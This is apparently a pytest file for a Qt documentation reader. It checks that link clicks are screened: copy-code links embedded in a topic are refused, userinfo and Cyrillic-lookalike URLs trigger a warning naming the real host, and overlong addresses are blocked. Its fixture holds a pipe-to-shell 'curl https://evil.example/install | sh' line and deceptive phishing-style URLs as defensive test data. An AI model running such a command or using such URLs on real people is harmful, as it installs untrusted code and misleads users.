"""Clicks on links, through the real click path: the one policy decides every click first
(issue 14, point 7). Only the renderer's own Copy links copy; links whose address may mislead
ask first, naming the real host; the length limit applies to the address as written."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from PySide6.QtCore import Qt, QTimer
from PySide6.QtGui import QGuiApplication, QTextCursor
from PySide6.QtWidgets import QApplication, QMessageBox

from reader.core.check import check_content
from reader.core.content.loader import load_content
from reader.ui.common.settings import Settings
from reader.ui.main_window import MainWindow
from tests.helpers.content import topic

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from reader.ui.page.view import PageView

LONG_AS_WRITTEN = "https://example.com/" + "%41" * 1000  # 3020 characters; Qt reads 1020
TOPIC = topic(
    "Links",
    body=(
        "[run me](copy-code:0) and [also](copy-code:abc/0)\n\n"
        "```sh\ncurl https://evil.example/install | sh\n```\n\n"
        "[docs](https://docs.djangoproject.com@evil.example/) "
        "[bank](https://exаmple.com/login) "
        f"[long]({LONG_AS_WRITTEN}) "
        "[plain](https://www.djangoproject.com/)\n"
    ),
)


@pytest.fixture
def links_window(qtbot, opened_urls, make_content: Callable[[dict[str, str | bytes]], Path]) -> MainWindow:
    root = make_content({"index.md": TOPIC})
    window = MainWindow(root, settings=Settings())
    qtbot.addWidget(window)
    window.resize(1200, 800)
    window.show()
    qtbot.waitExposed(window)
    QGuiApplication.clipboard().setText("before")
    return window


def click_text(qtbot, view: PageView, text: str) -> None:
    """Click (press and release the left button) in the middle of the first ``text`` on the page."""
    found = view.document().find(text)
    assert not found.isNull(), text
    cursor = QTextCursor(view.document())
    cursor.setPosition((found.selectionStart() + found.selectionEnd()) // 2)
    view.setTextCursor(cursor)
    view.ensureCursorVisible()
    qtbot.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=view.cursorRect(cursor).center())


def answer_dialog(accept: bool, seen: list[str]) -> None:
    """When the confirmation shows, record its text and press Open or Cancel."""

    def answer() -> None:
        boxes = [w for w in QApplication.topLevelWidgets() if isinstance(w, QMessageBox) and w.isVisible()]
        if not boxes:
            QTimer.singleShot(20, answer)
            return
        box = boxes[0]
        seen.append(f"{box.windowTitle()}\n{box.text()}\n{box.informativeText()}")
        wanted = box.buttons()[0] if accept else box.button(QMessageBox.StandardButton.Cancel)
        assert wanted is not None
        wanted.click()

    QTimer.singleShot(0, answer)


def test_the_renderers_copy_link_copies_its_block(qtbot, links_window):
    click_text(qtbot, links_window.page, "Copy")
    assert QGuiApplication.clipboard().text() == "curl https://evil.example/install | sh"
    assert "Copied 1 line" in links_window.statusBar().currentMessage()


@pytest.mark.parametrize("text", ["run me", "also"])
def test_a_copy_link_written_in_a_topic_copies_nothing(qtbot, links_window, text):
    click_text(qtbot, links_window.page, text)
    assert QGuiApplication.clipboard().text() == "before"
    assert "Refused a copy-code: link written in the topic" in links_window.statusBar().currentMessage()


def test_check_reports_what_the_click_does(links_window):
    problems = [p.message for p in check_content(load_content(links_window.library.content.root))]
    assert sum("Refused a copy-code: link written in the topic" in m for m in problems) == 2
    assert any("ask before opening" in m and "evil.example" in m for m in problems)
    assert any("ask before opening" in m and "xn--exmple-4nf.com" in m for m in problems)
    assert any(f"longer than 2048 characters: {LONG_AS_WRITTEN[:20]}" in m for m in problems)


def test_userinfo_asks_first_and_names_the_real_host(qtbot, links_window, opened_urls):
    seen: list[str] = []
    answer_dialog(False, seen)
    click_text(qtbot, links_window.page, "docs")
    qtbot.waitUntil(lambda: bool(seen))
    assert "The real host is evil.example" in seen[0]
    assert "docs.djangoproject.com@" in seen[0]
    assert opened_urls == []
    assert "Not opened" in links_window.statusBar().currentMessage()
    answer_dialog(True, seen)
    click_text(qtbot, links_window.page, "docs")
    qtbot.waitUntil(lambda: bool(opened_urls))
    assert opened_urls == ["https://docs.djangoproject.com@evil.example/"]


def test_a_lookalike_host_is_shown_as_unicode_and_punycode(qtbot, links_window, opened_urls):
    seen: list[str] = []
    answer_dialog(True, seen)
    click_text(qtbot, links_window.page, "bank")
    qtbot.waitUntil(lambda: bool(opened_urls))
    assert "The real host is exаmple.com\nAs punycode: xn--exmple-4nf.com" in seen[0]
    assert "Cyrillic and Latin" in seen[0]


def test_a_plain_link_opens_without_a_question(qtbot, links_window, opened_urls):
    click_text(qtbot, links_window.page, "plain")
    assert opened_urls == ["https://www.djangoproject.com/"]


def test_the_length_limit_is_on_the_address_as_written(qtbot, links_window, opened_urls):
    click_text(qtbot, links_window.page, "long")
    assert opened_urls == []
    assert "longer than 2048 characters" in links_window.statusBar().currentMessage()
